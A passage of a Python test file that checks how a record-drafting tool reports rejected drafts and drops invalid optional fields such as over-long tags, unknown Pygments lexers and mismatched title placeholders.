    assert "analysis" not in read(content, "gamma")
    files = {i: str(content / "errors" / f"{i}.json") for i in ("alpha", "beta", "gamma")}
    assert f"{files['gamma']}: draft rejected: the answer's /when/trigger: must be a string, got an integer" in out[0]
    assert [line for line in out if ": left out " in line] == [
        f"{files['alpha']}: left out /tags/1: 'a-tag-that-goes-on-far-longer-than-forty-chars' is not allowed here "
        "(must be lowercase letters, digits and hyphens, at most 40 characters)",
        f"{files['alpha']}: left out /example_fix/language: Pygments has no lexer called 'no-such-lexer' "
        "(common names: shell, python, console, yaml, toml, json, text)",
        f"{files['beta']}: left out /example_fix: /example_fix/after: missing required field 'after' (plain text)",
        f"{files['beta']}: left out /title: names the placeholder {{limit}}, which the message does not have",
    ]
    assert out[-1].startswith("drafted 3 records, 1 failed, 4 invalid optional parts left out of 2 records "
                              "(1 example_fix, 1 example_fix.language, 1 tag, 1 title); ")


def test_without_verbose_only_the_summary_says_what_was_left_out(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["bad-parts"]}
    content = make_content(tmp_path / "content", skeleton("alpha"))
    lines = run(content, conn(endpoint)).lines()
    assert len(lines) == 1
    assert lines[0].startswith("drafted 1 record, 0 failed, 2 invalid optional parts left out of 1 record "
                               "(1 example_fix.language, 1 tag); ")
